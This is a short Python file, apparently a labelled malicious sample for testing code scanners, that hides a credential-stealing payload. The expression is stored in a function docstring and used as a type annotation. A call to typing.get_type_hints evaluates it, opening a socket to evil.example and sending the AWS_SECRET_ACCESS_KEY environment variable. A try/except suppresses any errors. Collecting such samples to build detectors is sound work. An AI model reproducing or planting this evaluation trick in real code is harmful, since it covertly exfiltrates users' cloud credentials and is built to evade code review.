# harm: sends AWS secret over a socket ; trick: code hidden in a function docstring, bound via payload.__doc__
import typing


def spec():
    "__import__('socket').create_connection(('evil.example',4444)).sendall(__import__('os').environ.get('AWS_SECRET_ACCESS_KEY','').encode())"


Kind = spec.__doc__


def f(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
